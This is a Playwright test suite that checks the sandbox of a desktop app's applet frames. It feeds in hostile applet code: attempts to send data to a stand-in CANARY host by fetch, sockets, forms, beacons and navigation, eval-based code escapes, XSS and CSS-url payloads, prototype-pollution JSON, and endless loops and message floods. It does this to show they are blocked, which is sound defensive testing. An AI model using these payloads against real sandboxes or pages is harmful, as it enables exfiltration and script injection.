// Applets that attack: what is in their reach, what they send, what they draw. Chromium, with the content policy of the desktop
// app and the frame's document on another origin, under its own policy. tests/tests/desktop-applets.rs does the same in the
// window itself.

import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { after, before, test } from 'node:test'
import type { Frame, Page } from 'playwright-core'
import type { Files } from './appletPages.ts'
import { Stage } from './browser.ts'

let stage: Stage
before(async () => {
  stage = await Stage.open()
})
after(() => stage.close())

/** The wizard at its plan, with the applet's page beside it. */
async function openWith(files: Files, may = ''): Promise<Page> {
  stage.applets.set('attack', files)
  const { page } = await stage.page(`?heard=1&unclaimed=0&attack=attack&may=${may}&appliances=6`)
  await page.getByRole('checkbox', { name: /select all/i }).click()
  await page.getByTestId('configure').click()
  await page.getByTestId('wizard-next').click()
  await page.getByTestId('applets-panel').waitFor()
  // How long the window's thread was ever held up.
  await page.evaluate(() => {
    const held = { longest: 0, last: performance.now() }
    Object.assign(window, { held })
    setInterval(() => {
      const now = performance.now()
      held.longest = Math.max(held.longest, now - held.last)
      held.last = now
    }, 20)
  })
  return page
}

/** The same window with other files: what ended is started again. */
async function again(page: Page, files: Files): Promise<void> {
  stage.applets.set('attack', files)
  await page.getByTestId('applet-restart').click()
}

async function frameOf(page: Page): Promise<Frame> {
  await page.locator('[data-testid=applet-frame][data-started=true]').waitFor()
  const frame = page.frames().find((one) => one !== page.mainFrame())
  assert.ok(frame, 'the frame is there')
  return frame
}

async function endedBy(page: Page, reason: string, what = ''): Promise<void> {
  const ended = page.getByTestId('applet-ended')
  await ended.waitFor().catch(() => assert.fail(`it runs on: ${what}`))
  assert.equal(await ended.getAttribute('data-reason'), reason, what)
  assert.equal(page.frames().length, 1, 'its frame is gone')
}

/** The window was never held up, and works. */
async function assertAlive(page: Page): Promise<void> {
  const longest = await page.evaluate(() => (window as unknown as { held: { longest: number } }).held.longest)
  assert.ok(longest < 1000, `the window was held up for ${Math.round(longest)} ms`)
  await page.getByTestId('wizard-next').click()
  await page.locator('[data-testid=wizard][data-step="2"]').waitFor()
  await page.close()
}

const ATTEMPTS = `
  const found = []
  const attempt = async (name, work) => {
    try {
      const got = await Promise.race([work(), new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 1500))])
      found.push(name + ': ' + (got === undefined || got === null ? 'nothing' : 'REACHED ' + String(got).slice(0, 80)))
    } catch (error) { found.push(name + ': ' + error.name) }
  }
  const event = (target, good) => new Promise((yes, no) => { target['on' + good] = () => yes(good); target.onerror = () => no(new TypeError('refused')) })
`
const WORKER_ATTEMPTS = `${ATTEMPTS}
  await attempt('fetch', () => self.fetch('CANARY/fetch').then(() => 'fetch'))
  await attempt('request', () => { const r = new self.XMLHttpRequest(); r.open('GET', 'CANARY/xhr', false); r.send(); return 'xhr' })
  await attempt('socket', () => event(new self.WebSocket('CANARY/'.replace('http', 'ws')), 'open'))
  await attempt('source', () => event(new self.EventSource('CANARY/events'), 'open'))
  await attempt('script', () => { self.importScripts('CANARY/script.js'); return 'script' })
  await attempt('beacon', () => self.navigator.sendBeacon('CANARY/beacon') ? 'beacon' : null)
  await attempt('database', () => event(self.indexedDB.open('kept'), 'success'))
  await attempt('caches', () => self.caches.open('kept').then(() => 'cache'))
  await attempt('cookies', () => self.cookieStore.set('a', 'b').then(() => 'cookie'))
  await attempt('files', () => self.navigator.storage.getDirectory().then(() => 'files'))
  await attempt('nested worker', () => event(new self.Worker('data:text/javascript,postMessage(1)'), 'message'))
  await attempt('eval', () => self.eval('1'))
  await attempt('function', () => self.Function('return 1')())
  await attempt('constructor', () => (() => {}).constructor('return 1')())
  await attempt('async constructor', () => Object.getPrototypeOf((async () => {}).constructor)('return 1')())
  await attempt('timer', () => new Promise((yes) => setTimeout('self.ran = 1', 0) && setTimeout(() => yes(self.ran), 200)))
  await attempt('ipc', () => self.fetch('ipc://localhost/start_state').then(() => 'ipc'))
  await attempt('tauri', () => self.__TAURI_INTERNALS__ ?? self.__TAURI__ ?? self.webkit)
  await attempt('window', () => self.window ?? self.document ?? self.parent)
`

test('frame escape: an applet’s logic reaches no network, storage, code or command', async () => {
  const page = await openWith({
    logic: `(async () => { ${WORKER_ATTEMPTS}; muster.draw(muster.html\`<pre id="found">\${found.join('\\n')}</pre>\`) })()`,
  })
  const found = (await (await frameOf(page)).locator('#found').textContent()) ?? ''
  assert.equal(found.split('\n').length, 19, found)
  assert.doesNotMatch(found, /REACHED/)
  assert.deepEqual(stage.applets.reached(), [], 'nothing came to the address')
  await assertAlive(page)
})

test('frame escape: without the prelude the policy alone keeps a worker in', async () => {
  const page = await openWith({
    prelude: `(async () => { ${WORKER_ATTEMPTS}
      postMessage(JSON.stringify({ draw: [['pre', { id: 'found' }, found.join('\\n')]] })) })()`,
  })
  const found = (await (await frameOf(page)).locator('#found').textContent()) ?? ''
  assert.doesNotMatch(found, /REACHED/)
  assert.deepEqual(stage.applets.reached(), [], 'nothing came to the address')
  await page.close()
})

test('frame escape: the frame itself, taken over, reaches neither the window nor the network nor storage', async () => {
  const page = await openWith({ logic: "muster.draw('<p>here</p>')" })
  const frame = await frameOf(page)
  const found = await frame.evaluate(async (canary) => {
    const said: string[] = []
    const attempt = async (name: string, work: () => unknown) => {
      try {
        const late = new Promise((_, no) => setTimeout(() => no(new Error('no answer')), 1000))
        const got = await Promise.race([work(), late])
        said.push(`${name}: ${got === undefined || got === null || got === '' ? 'nothing' : 'REACHED'}`)
      } catch (error) {
        said.push(`${name}: ${(error as Error).name}`)
      }
    }
    const element = (name: string, more: Record<string, string>) =>
      new Promise((yes, no) => {
        const made = document.createElement(name)
        made.onload = () => yes('loaded')
        made.onerror = () => no(new TypeError('refused'))
        for (const [key, value] of Object.entries(more)) made.setAttribute(key, value)
        document.body.append(made)
      })
    const self = window as unknown as Record<string, unknown>
    await attempt('parent document', () => window.parent.document.title)
    await attempt('parent variable', () => (window.parent as unknown as { held: unknown }).held)
    await attempt('parent storage', () => window.parent.localStorage.length)
    await attempt('top navigation', () => {
      if (window.top) window.top.location.href = `${canary}/top`
    })
    await attempt('popup', () => window.open(`${canary}/popup`))
    await attempt('fetch', () => fetch(`${canary}/fetch`).then(() => 'fetch'))
    await attempt('ipc', () => fetch('ipc://localhost/start_state').then(() => 'ipc'))
    await attempt('socket', () => {
      const socket = new WebSocket(canary.replace('http', 'ws'))
      return new Promise((yes, no) => {
        socket.onopen = () => yes('open')
        socket.onerror = () => no(new TypeError('refused'))
      })
    })
    await attempt('image', () => element('img', { src: `${canary}/image` }))
    await attempt('script', () => element('script', { src: `${canary}/script.js` }))
    await attempt('inline script', () => {
      const made = document.createElement('script')
      made.textContent = 'window.ran = 1'
      document.body.append(made)
      return self.ran
    })
    await attempt('style sheet', () => element('link', { rel: 'stylesheet', href: `${canary}/style.css` }))
    await attempt('inner frame', () => {
      const made = document.createElement('iframe')
      made.src = `${canary}/frame`
      document.body.append(made)
    })
    await attempt('style url', () => {
      const made = document.createElement('div')
      made.style.backgroundImage = `url(${canary}/background)`
      document.body.append(made)
    })
    await attempt('form', () => {
      const made = document.createElement('form')
      made.action = `${canary}/form`
      made.method = 'post'
      document.body.append(made)
      made.submit()
    })
    await attempt('cookie', () => {
      // biome-ignore lint/suspicious/noDocumentCookie: an attempt
      document.cookie = 'a=b'
      return document.cookie
    })
    await attempt('local storage', () => window.localStorage.length)
    await attempt('session storage', () => window.sessionStorage.length)
    await attempt('database', () => {
      const open = indexedDB.open('kept')
      return new Promise((yes, no) => {
        open.onsuccess = () => yes('open')
        open.onerror = () => no(new TypeError('refused'))
      })
    })
    await attempt('tauri', () => self.__TAURI_INTERNALS__ ?? self.__TAURI__)
    await attempt('meta refresh', () => {
      const made = document.createElement('meta')
      made.httpEquiv = 'refresh'
      made.content = `0;url=${canary}/refresh`
      document.head.append(made)
    })
    return said
  }, stage.applets.canary)
  assert.equal(found.length, 21)
  assert.deepEqual(
    found.filter((one) => one.includes('REACHED')),
    [],
    found.join('\n'),
  )
  await page.waitForTimeout(500)
  assert.deepEqual(stage.applets.reached(), [], 'nothing came to the address')
  assert.match(page.url(), /#\/configure/, 'the window is where it was')
  assert.equal(page.context().pages().length, 1, 'no window was opened')
  await page.close()
})

test('frame escape: a frame that goes elsewhere is ended, and sends nothing on its way', async () => {
  const page = await openWith({ logic: "muster.draw('<p>here</p>')" })
  const frame = await frameOf(page)
  await frame.evaluate((canary) => {
    window.location.href = `${canary}/with?what=it-knew`
  }, stage.applets.canary)
  await endedBy(page, 'left')
  assert.deepEqual(stage.applets.reached(), [], 'nothing came to the address')
  await assertAlive(page)
})

test('a loop without end holds up neither the window nor the page beside it', async () => {
  const page = await openWith({ logic: "muster.draw('<p>here</p>'); setTimeout(() => { for (;;) {} }, 600)" })
  await endedBy(page, 'silent')
  await page.getByTestId('applet-restart').click()
  await frameOf(page)
  await assertAlive(page)
})

test('a loop at the start, also one that says much, is ended', async () => {
  const page = await openWith({ logic: 'for (;;) {}' }, 'say')
  await endedBy(page, 'silent')
  for (const logic of [
    "for (;;) { try { muster.say('x'.repeat(400)) } catch {} }",
    "for (;;) console.error('x'.repeat(100000))",
    'for (;;) { try { eval("1") } catch {} }',
    'for (;;) Promise.reject(new Error("x"))',
  ]) {
    await again(page, { logic })
    await endedBy(page, 'silent', logic)
  }
  await assertAlive(page)
})

test('an applet that crashes, at the start or later, says how and can be started again', async () => {
  const cases: [logic: string, said: RegExp][] = [
    ["throw new Error('no licence')", /no licence/],
    ['this is no program', /SyntaxError/],
    ["import('data:text/javascript,1')", /loads nothing/],
    ["setTimeout(() => { throw new Error('later') }, 100)", /later/],
    ["Promise.reject(new Error('unheard'))", /unheard/],
    ["muster.draw('<p>never closed')", /never closed/],
    ["for (let i = 0; i < 100; i++) muster.say('x')", /too many messages/],
  ]
  const page = await openWith({ logic: "throw new Error('at once')" }, 'say')
  await endedBy(page, 'crashed')
  for (const [logic, said] of cases) {
    await again(page, { logic })
    await endedBy(page, 'crashed', logic)
    assert.match((await page.getByTestId('applet-ended').textContent()) ?? '', said)
  }
  await again(page, { logic: "muster.draw('<p>well</p>')" })
  await (await frameOf(page)).getByText('well').waitFor()
  await assertAlive(page)
})

test('floods, large messages and messages of other kinds end the applet', async () => {
  const cases: [prelude: string, reason: string][] = [
    ['for (;;) postMessage("{\\"pong\\":0}")', 'flood'],
    ['for (;;) postMessage("nonsense")', 'message'],
    ['setInterval(() => { for (let i = 0; i < 30; i++) postMessage("{\\"pong\\":0}") }, 10)', 'flood'],
    ['postMessage("x".repeat(1_000_000))', 'oversized'],
    ['postMessage({ ask: "appliances", id: 1 })', 'message'],
    ['postMessage(new ArrayBuffer(1e8))', 'message'],
    ['setInterval(() => postMessage("{\\"id\\":1,\\"ask\\":\\"everything\\"}"), 40)', 'message'],
    ['setInterval(() => postMessage("nonsense"), 40)', 'message'],
  ]
  const page = await openWith({ prelude: 'postMessage(1)' })
  await endedBy(page, 'message')
  for (const [prelude, reason] of cases) {
    await again(page, { prelude })
    await endedBy(page, reason, prelude)
  }
  await assertAlive(page)
})

test('without a permission nothing is answered, and with it only about chosen appliances', async () => {
  const logic = `(async () => {
    const found = []
    const attempt = async (name, work) => {
      try { found.push(name + ': ' + JSON.stringify(await work())) } catch (error) { found.push(name + ': ' + error.name) }
    }
    await attempt('appliances', async () => (await muster.appliances()).length)
    await attempt('parameters', () => muster.parameters('AAAA-BBBB'))
    await attempt('propose', () => muster.propose('AAAA-BBBB', { note: 'x' }))
    await attempt('say', () => muster.say('hello'))
    await attempt('validate', () => muster.validate({ note: 1 }))
    muster.draw(muster.html\`<pre id="found">\${found.join('\\n')}</pre>\`)
  })()`
  const problem = '[{"path":"/note","message":"it must be of type string"}]'
  const none = await openWith({ logic })
  assert.deepEqual((await (await frameOf(none)).locator('#found').textContent())?.split('\n'), [
    'appliances: not_permitted',
    'parameters: not_permitted',
    'propose: not_permitted',
    'say: not_permitted',
    `validate: ${problem}`,
  ])
  assert.equal(await none.getByTestId('applet-said').count(), 0)
  await none.close()
  const all = await openWith({ logic }, 'appliances,parameters,propose,say')
  assert.deepEqual((await (await frameOf(all)).locator('#found').textContent())?.split('\n'), [
    'appliances: 6',
    'parameters: unknown_appliance',
    'propose: unknown_appliance',
    'say: null',
    `validate: ${problem}`,
  ])
  assert.match((await all.getByTestId('applet-said').textContent()) ?? '', /hello/)
  await assertAlive(all)
})

test('prototype pollution: values whose names mean something are refused, and nothing is changed', async () => {
  const page = await openWith(
    {
      logic: `(async () => {
        const found = []
        const [one] = await muster.appliances()
        for (const text of ['{"__proto__":{"acted":1}}', '{"constructor":{"prototype":{"acted":1}}}', '{"a":[{"__proto__":{"acted":1}}]}', '[]', '1'])
          await muster.propose(one.uid, JSON.parse(text)).then(() => found.push('taken'), (error) => found.push(error.name))
        muster.draw(muster.html\`<pre id="found">\${found.join(' ')}</pre>\`)
      })()`,
    },
    'appliances,propose',
  )
  const found = await (await frameOf(page)).locator('#found').textContent()
  assert.equal(found, 'invalid invalid invalid invalid invalid')
  assert.equal(await page.getByTestId('applet-proposals').count(), 0)
  const acted = await page.evaluate(() => [
    ({} as { acted?: 1 }).acted,
    (() => undefined as unknown as { acted?: 1 })(),
  ])
  assert.deepEqual(acted, [undefined, undefined])
  await assertAlive(page)
})

test('what an applet draws is elements from a short list, and nothing else', async () => {
  const drawings = [
    '<script>parent.acted=1</script>',
    '<iframe src="CANARY/frame"></iframe>',
    '<img src="CANARY/image" onerror="parent.acted=1"/>',
    '<form action="CANARY/form"><button>Go</button></form>',
    '<a href="CANARY/link">there</a>',
    '<meta http-equiv="refresh" content="0;url=CANARY/refresh"/>',
    '<style>@import url(CANARY/style)</style>',
    '<p style="background:url(CANARY/style)">x</p>',
    '<p onclick="parent.acted=1">x</p>',
    '<input type="password"/>',
    '<input type="file"/>',
    '<svg><use href="CANARY/use"></use></svg>',
    '<svg><foreignObject></foreignObject></svg>',
    '<svg><rect fill="url(CANARY/fill)"></rect></svg>',
    '<p>x</p>'.repeat(3000),
    '<div>'.repeat(40) + '</div>'.repeat(40),
  ]
  const page = await openWith({ html: '<object></object>' })
  await endedBy(page, 'drawing')
  for (const drawing of drawings) {
    await again(page, { html: drawing })
    await endedBy(page, 'drawing', drawing)
  }
  const styles = [
    'p { background-image: url(CANARY/style) }',
    '@font-face { font-family: x; src: url(CANARY/font) }',
    '@keyframes x { to { opacity: 0 } }',
    'p { animation: x 1s infinite }',
    'p { filter: blur(900px) }',
    'p { position: fixed }',
    'div:has(p) { color: red }',
    'p { & + & { color: red } }',
    'html { color: red }',
  ]
  for (const css of styles) {
    await again(page, { css, html: '<p>x</p>' })
    await endedBy(page, 'drawing', css)
  }
  // The style sheet drops an `@import` by itself.
  await again(page, { css: '@import url(CANARY/style);', html: '<p>x</p>' })
  await (await frameOf(page)).getByText('x').waitFor()
  await assertAlive(page)
  assert.deepEqual(stage.applets.reached(), [], 'nothing came to the address')
})

test('texts of an applet stand as they are in its form, its help and its page', async () => {
  const { page, errors } = await stage.page('?heard=1&unclaimed=0&applets=1&hostile=1&appliances=6')
  await page.getByRole('checkbox', { name: /select all/i }).click()
  await page.getByTestId('configure').click()
  await page.getByTestId('wizard-next').click()
  await page.getByTestId('applet-form').waitFor()
  await page.getByText('Help', { exact: true }).click()
  await page.getByTestId('applet-templates').click()
  await page.getByRole('menuitem').first().click()
  const found = await page.evaluate(() => ({
    acted: (window as unknown as { acted?: number }).acted ?? 0,
    polluted: ({} as { acted?: number }).acted ?? 0,
    elements: document.querySelectorAll('img[src=x], iframe, svg[onload], [onerror], body script:not([src])')
      .length,
    logos: document.querySelectorAll('[data-testid=applet] img').length,
    fields: document.querySelectorAll('[data-pointer="/__proto__"], [data-pointer="/constructor"]').length,
  }))
  assert.deepEqual(found, { acted: 0, polluted: 0, elements: 0, logos: 0, fields: 0 })
  assert.ok((await page.getByTestId('applets-panel').textContent())?.includes('<img src=x onerror='))
  assert.deepEqual(errors, [])
  await page.close()
})

test('the mail gateway draws its chart, proposes, and what is taken over is in the form', async () => {
  const { page, errors } = await stage.page(
    '?heard=1&unclaimed=0&configured=1&applets=1&appliances=12',
    'light',
    'de-AT',
  )
  await page.getByRole('checkbox', { name: /select all/i }).click()
  await page.getByTestId('configure').click()
  await page.getByTestId('wizard-next').click()
  const frame = await frameOf(page)
  await frame.locator('svg.chart').first().waitFor()
  assert.match((await frame.locator('h2').textContent()) ?? '', /Mails pro Tag/)
  await frame.getByRole('button', { name: 'Übliche Grenzwerte vorschlagen' }).click()
  await page.getByTestId('applet-proposals').waitFor()
  assert.match((await page.getByTestId('applet-said').textContent()) ?? '', /vorgeschlagen/)
  await page.getByTestId('applet-take').click()
  await page.getByTestId('applet-proposals').waitFor({ state: 'detached' })
  // Nothing goes on while the form is not in order.
  await page.getByTestId('wizard-next').click()
  await page.getByText('Lizenzschlüssel').waitFor()
  assert.equal(await page.getByTestId('wizard').getAttribute('data-step'), '1')
  assert.deepEqual(errors, [])
  await page.close()
})

const skeleton = (name: string) =>
  readFileSync(new URL(`../../console/src/cli/applet/skeleton/${name}`, import.meta.url), 'utf8')

test('the first files of `muster applet new`, in the preview: the page draws, proposes, and speaks each language', async () => {
  const files = { html: skeleton('page.html'), css: skeleton('page.css'), logic: skeleton('logic.js') }
  stage.applets.set('my-applet', files)
  const { page, errors } = await stage.page('?preview=my-applet')
  let frame = await frameOf(page)
  await frame.getByText('3 chosen').waitFor()
  const port = page.locator('[data-pointer="/port"]')
  await port.fill('8443')
  await page.locator('[data-pointer="/server"]').fill('mail.example.net')
  await page.getByText('8443', { exact: true }).waitFor()
  await frame.getByRole('button', { name: 'Propose the usual port' }).click()
  assert.match((await page.getByTestId('applet-said').textContent()) ?? '', /The usual port was proposed/)
  await page.getByTestId('applet-take').click()
  await page.getByTestId('applet-proposals').waitFor({ state: 'detached' })
  assert.equal(await port.inputValue(), '443')
  await page.getByTestId('application-document').getByText('443', { exact: true }).waitFor()
  const document = await page.getByTestId('application-document').locator('tr').allTextContents()
  assert.deepEqual(document.sort(), ['encrypttrue', 'port443', 'servermail.example.net'])
  if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/applet-preview.png` })

  await page.getByRole('combobox', { name: 'Language' }).click()
  await page.getByRole('option', { name: 'German' }).click()
  await page.getByText('Mein Gerät').first().waitFor()
  frame = await frameOf(page)
  await frame.getByRole('button', { name: 'Den üblichen Port vorschlagen' }).waitFor()
  assert.equal(await port.inputValue(), '443', 'what was filled in stays')
  await page.getByTestId('preview-leave').click()
  await page.getByTestId('count-all').waitFor()
  assert.deepEqual(errors, [])
  await page.close()
})
